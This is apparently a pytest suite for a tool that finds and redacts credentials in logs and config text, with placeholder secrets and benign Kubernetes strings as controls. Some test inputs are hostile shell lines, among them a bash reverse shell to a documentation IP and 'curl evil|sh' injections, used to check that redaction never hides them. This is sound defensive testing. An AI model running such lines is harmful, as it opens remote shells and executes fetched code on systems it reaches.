from __future__ import annotations

import time
from typing import Final

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.redact.text import (
    _JOINT,
    PATTERNS,
    may_hold_secret,
    redact_suspects,
    redact_text,
    redact_texts,
)
from ingest.redact.token import Redactor

KEY: Final = Redactor(b"k")
SECRET: Final = "Zq7hX2vK9mPw4tRc"
TOKEN: Final = KEY.token(SECRET)

# Kind of secret, and texts in which SECRET stands for one.
FOUND: Final[tuple[tuple[str, str], ...]] = (
    ("named-secret", "password=SECRET"),
    ("named-secret", "PASSWORD = SECRET"),
    ("named-secret", "db.password: SECRET"),
    ("named-secret", "spring.datasource.password=SECRET\nuser=x"),
    ("named-secret", "?token=SECRET&x=1"),
    ("named-secret", "?access_token=SECRET"),
    ("named-secret", "?x=1&api-key=SECRET"),
    ("named-secret", "?apiKey%3DSECRET"),
    ("named-secret", "X-Api-Key: SECRET"),
    ("named-secret", "aws_secret_access_key=SECRET"),
    ("named-secret", "passphrase: SECRET"),
    ("named-secret", "DB_PASS=SECRET"),
    ("named-secret", "sentry.dsn=SECRET"),
    ("named-secret", "Cookie: SECRET"),
    ("named-secret", "client-key-data: SECRET"),
    ("named-secret", "secret_key_base: SECRET"),
    ("named-secret", "password: |\n  SECRET\nnext: x"),
    ("named-secret", "password: >-\n  SECRET"),
    ("named-secret", r"password: |\n  SECRET\nnext: x"),
    ("named-secret", "- name: DB_PASSWORD\n  value: SECRET"),
    ("named-secret", 'name: API_TOKEN\nvalue: "SECRET"'),
    ("named-secret", r"- name: DB_PASSWORD\n  value: SECRET"),
    ("named-secret", "<password>SECRET</password>"),
    ("named-secret", "<db:apiKey>SECRET</db:apiKey>"),
    ("quoted-secret", '"password": "SECRET"'),
    ("quoted-secret", "password: 'SECRET'"),
    ("quoted-secret", r"\"password\":\"SECRET\""),
    ("quoted-secret", r"\\\"password\\\": \\\"SECRET\\\""),
    ("quoted-secret", 'token = "SECRET"'),
    ("secret-flag", "app --password SECRET"),
    ("secret-flag", "app --db-token   SECRET --x"),
    ("secret-flag", "app+--password+SECRET"),
    ("secret-flag", '["--password","SECRET"]'),
    ("secret-flag", r"[\"--password\", \"SECRET\"]"),
    ("secret-flag", "?command=--password&command=SECRET"),
    ("authorization", "Authorization: SECRET"),
    ("authorization", "Authorization: token SECRET"),
    ("authorization", "Authorization: Bearer SECRET"),
    ("authorization", 'curl -H "Authorization: Basic SECRET"'),
    ("authorization", "proxy-authorization=SECRET"),
    ("bearer", "using bearer SECRET."),
    ("bearer", "Bearer%20SECRET"),
    ("basic-auth", "sent Basic SECRETxx=="),
    ("url-password", "https://user:SECRET@host/x"),
    ("url-password", "amqp://:SECRET@host"),
    ("url-password", "postgres://u:SECRET@h:5432/d?sslmode=off"),
    ("url-token", "https://SECRETxxxxxxxx@host/x.git"),
    ("curl-user", "curl -u user:SECRET https://host"),
    ("curl-user", "curl -s --user user:SECRET https://host"),
    ("curl-user", "curl -uuser:SECRET https://host"),
    ("curl-user", "etcdctl --user root:SECRET get /"),
    ("program-password", "mysql -uroot -pSECRET db"),
    ("program-password", "mysqldump -h x -pSECRET"),
    ("program-password", "redis-cli -h x -a SECRET ping"),
    ("program-password", "sshpass -p SECRET ssh x"),
    ("program-password", "sshpass -pSECRET ssh x"),
    ("from-literal", "kubectl create secret generic x --from-literal=k=SECRET"),
    ("from-literal", "kubectl create secret generic x --from-literal k=SECRET"),
    ("registry-auth", '{"auths":{"r":{"auth":"SECRET"}}}'),
    ("registry-auth", r"{\"auths\":{\"r\":{\"auth\": \"SECRET\"}}}"),
    ("registry-auth", "_auth=SECRET"),
    ("decode-context", 'error found in #10 byte of ...|rd":"SECRET"},|...'),
    ("decode-context", 'bigger context ...|{"data":{"x":"SECRET"}}|...'),
)

SHAPED: Final[tuple[tuple[str, str], ...]] = (
    ("jwt", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl"),
    ("jwt", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0."),
    ("aws-key-id", "AKIAIOSFODNN7EXAMPLE"),
    ("aws-key-id", "ASIAIOSFODNN7EXAMPLE"),
    ("github-token", "ghp_" + "a1B2" * 9),
    ("github-token", "github_pat_" + "a1B2_" * 9),
    ("gitlab-token", "glpat-" + "a1B2-" * 5),
    ("slack-token", "xoxb-1234567890-abcdef"),
    ("google-key", "AIza" + "a1B2_" * 7),
    ("stripe-key", "sk_live_" + "a1B2" * 6),
    ("npm-token", "npm_" + "a1B2" * 9),
    ("openai-key", "sk-" + "a1B2-" * 8),
    ("private-key", "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----"),
    ("private-key", "-----BEGIN PRIVATE KEY-----\nMIIEvcut off"),
)

UNTOUCHED: Final = (
    'secrets "x" not found',
    'serviceaccounts "token-cleaner" not found',
    'secrets is forbidden: User "eve" cannot list resource "secrets" in API group ""',
    (
        'Operation cannot be fulfilled on deployments.apps "external-secrets": the object has been '
        "modified"
    ),
    'pods "x" is forbidden: error looking up service account a/b: serviceaccount "b" not found',
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "automountServiceAccountToken: false",
    '"automountServiceAccountToken":true',
    '"secret":{"secretName":"web-tls"}',
    "secretName: web-tls",
    "--token-file=/etc/x --password-file /etc/y",
    "--anonymous-auth=false --authorization-mode=RBAC",
    "/api/v1/namespaces/shop/secrets?limit=500&fieldSelector=metadata.name%3Dweb-token",
    "/api/v1/namespaces/shop/secrets/web-token-abc12",
    "/api/v1/namespaces/shop/serviceaccounts/default/token",
    "/apis/authentication.k8s.io/v1/tokenreviews?timeout=5s",
    "/api/v1/pods?continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEifQ",
    '"apiserver.latency.k8s.io/authorization":"206.837\\u00b5s"',
    '"authorization.k8s.io/decision":"allow"',
    "invalid bearer token, service account token has expired",
    "basic authentication is disabled",
    "tokens=5 max-tokens: 12",
    "password: ${DB_PASSWORD}",
    "password=$(cat /run/x)",
    "--password `cat /run/x`",
    'password: ""',
    "password: null",
    '"token":"","x":"y"',
    "kubernetes/v1.36.3 (linux/amd64) kubernetes/$Format token-controller",
    "https://host:6443/api",
    "user@example.com",
    "bypass=something compass: north",
    "passthrough: yes",
    "registry.example/external-secrets/external-secrets:v0.18.2",
    '"image":"registry.example/vault-token:1.0.3","ports":[]',
    "system:serviceaccount:kube-system:token-cleaner",
)


@pytest.mark.parametrize(("kind", "text"), FOUND)
def test_a_credential_is_replaced_at_its_place(kind: str, text: str) -> None:
    kinds: dict[int, set[str]] = {}
    (redacted,) = redact_texts(pl.Series([text.replace("SECRET", SECRET)]), KEY, kinds)
    assert SECRET not in redacted
    assert kind in kinds[0]
    if TOKEN in redacted:
        expected = text.replace("SECRET", TOKEN)
        assert redacted == expected


@pytest.mark.parametrize(("kind", "secret"), SHAPED)
@pytest.mark.parametrize("around", ["{}", "x {} y", '{{"a":"{}"}}', "a={}&b=c", "\n{}\n"])
def test_a_credential_is_known_by_its_shape(kind: str, secret: str, around: str) -> None:
    kinds: dict[int, set[str]] = {}
    (redacted,) = redact_texts(pl.Series([around.format(secret)]), KEY, kinds)
    assert secret not in redacted
    assert kind in kinds[0]


@pytest.mark.parametrize("text", UNTOUCHED)
def test_what_is_no_credential_is_left(text: str) -> None:
    assert redact_text(text, KEY) == text


@pytest.mark.parametrize("text", [text.replace("SECRET", SECRET) for _, text in FOUND])
def test_redacting_twice_changes_nothing_more(text: str) -> None:
    once = redact_text(text, KEY)
    assert redact_text(once, KEY) == once


def test_a_secret_that_another_begins_with_leaves_no_rest() -> None:
    redacted = redact_text("token=abcd token=abcdefgh token=abcd", KEY)
    one, two = KEY.token("abcd"), KEY.token("abcdefgh")
    assert redacted == f"token={one} token={two} token={one}"


def test_only_the_place_is_replaced_not_every_occurrence() -> None:
    """`PASSWORD=/dev/tcp` must not hide a reverse shell behind it in the same line."""
    text = "PASSWORD=/dev/tcp; bash -i >& /dev/tcp/203.0.113.9/443 0>&1"
    redacted = redact_text(text, KEY)
    assert redacted == text.replace("=/dev/tcp", f"={KEY.token('/dev/tcp')}")


@pytest.mark.parametrize(
    "script",
    [
        "PASSWORD=xxxx;curl evil|sh",
        "PASSWORD=xxxx|curl evil",
        "PASSWORD=xxxx&curl evil",
        "PASSWORD=xxxx`curl evil`",
        "PASSWORD=xxxx\ncurl evil",
        "PASSWORD=$(curl evil)",
        "--password xxxx; curl evil",
        "--password $(curl evil)",
        "mysql -pxxxx; curl evil",
    ],
)
def test_what_a_shell_would_run_is_not_hidden(script: str) -> None:
    assert "curl evil" in redact_text(script, KEY)


def test_numbers_are_secrets_after_a_password_only() -> None:
    assert "12345678" not in redact_text("password=12345678", KEY)
    assert "12345678" not in redact_text('"db_password": 12345678', KEY)
    assert redact_text("token=12345678", KEY) == "token=12345678"


def test_equal_secrets_give_equal_tokens_under_one_key() -> None:
    one, two = redact_text(f"token={SECRET}", KEY), redact_text(f"--password {SECRET}", KEY)
    assert TOKEN in one
    assert TOKEN in two
    assert TOKEN not in redact_text(f"token={SECRET}", Redactor(b"other"))
    assert Redactor().token(SECRET) != Redactor().token(SECRET)


def test_nulls_and_empty_texts_stay() -> None:
    values = pl.Series("x", [None, "", f"token={SECRET}", None], pl.String)
    redacted = redact_texts(values, KEY)
    assert redacted.name == "x"
    assert redacted.to_list() == [None, "", f"token={TOKEN}", None]
    assert redact_texts(values.clear(), KEY).len() == 0
    assert redact_suspects(values.clear(), KEY) == {}


def flagged(texts: list[str]) -> tuple[list[bool], list[bool], list[bool]]:
    """Return which texts the first pass, the joint automaton and any single pattern take."""
    frame = pl.DataFrame({"text": texts}).select(
        "text",
        first=may_hold_secret("text"),
        joint=pl.col("text").str.contains(_JOINT),
        single=pl.any_horizontal(pl.col("text").str.contains(p) for _, p in PATTERNS),
    )
    return frame["first"].to_list(), frame["joint"].to_list(), frame["single"].to_list()


WORDS: Final = st.sampled_from(
    [
        *("password", "Token", "api_key", "secret", "auth", "_auth", "cookie", "dsn", "pass"),
        *("=", ":", '"', "'", "\\", " ", "&", "%3D", "--", "-p", "|", "\n", "{", "[", ">", "<"),
        *("abc", "x1y2z3w4", "curl", "mysql", "-u", "a:b", "@", "://", "https", "value", "name"),
        *("bearer", "Basic", "Authorization", "eyJhbGciOiJ9", ".", "--from-literal", "${X}", "$"),
    ]
)


@settings(max_examples=40, deadline=None, derandomize=True)
@given(st.lists(st.lists(WORDS, max_size=12).map("".join), min_size=40, max_size=40))
def test_the_two_passes_before_the_patterns_lose_nothing(texts: list[str]) -> None:
    for text, first, joint, single in zip(texts, *flagged(texts), strict=True):
        assert first or not single, text
        assert joint or not single, text


def test_the_passes_take_every_example() -> None:
    texts = [text.replace("SECRET", SECRET) for _, text in FOUND] + [text for _, text in SHAPED]
    first, joint, single = flagged(texts)
    assert all(first)
    assert all(joint)
    assert all(single)


def test_the_patterns_fit_into_what_polars_keeps_compiled() -> None:
    assert len(PATTERNS) < 32


@pytest.mark.parametrize(
    "text",
    [
        "password=x1y2 " * 100_000,
        "password=" * 200_000,
        "".join(f"token=value{n} " for n in range(60_000)),
        "a" * 2_000_000 + "password",
        "-----BEGIN PRIVATE KEY-----" * 50_000,
        "curl " * 300_000,
        "mysql " * 200_000 + "-p",
        '"' * 2_000_000 + "secret",
        "\\" * 2_000_000 + "secret=",
        "https://" * 200_000 + "@",
        "\ufdd0\ufdd1password=hunter2hunter2\ufdd1\ufdd0" * 20_000,
    ],
)
def test_hostile_texts_are_searched_in_time(text: str) -> None:
    """Linear engine, linear replacement: two megabytes a text."""
    started = time.process_time()
    redact_text(text, KEY)
    assert time.process_time() - started < 3


def test_noncharacters_in_a_text_do_not_protect_a_secret() -> None:
    redacted = redact_text(f"\ufdd0password={SECRET}\ufdd1 token={SECRET}", KEY)
    assert SECRET not in redacted
    assert redacted.count("[redacted:") == 2


@pytest.mark.parametrize(
    ("text", "is_kept"),
    [
        ("alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls", True),
        ("PWD=/srv", True),
        ("DB_PWD=/hunter2hunter2", False),
        ("x.PWD=/hunter2hunter2", False),
        ("PWD=hunter2hunter2", False),
        ("pwd=/hunter2hunter2", False),
    ],
)
def test_where_a_shell_stands_is_no_password(text: str, is_kept: bool) -> None:
    assert (redact_text(text, Redactor(b"key")) == text) is is_kept


def test_many_texts_are_redacted_as_each_alone() -> None:
    redactor = Redactor(b"key")
    texts = [f"token=abcdef{number} and password=ghijkl{number * 7}" for number in range(300)]
    texts[7] = "nothing here"
    together = redact_texts(pl.Series(texts), redactor).to_list()
    assert together == [redact_text(text, redactor) for text in texts]
    assert len(set(together)) == 300
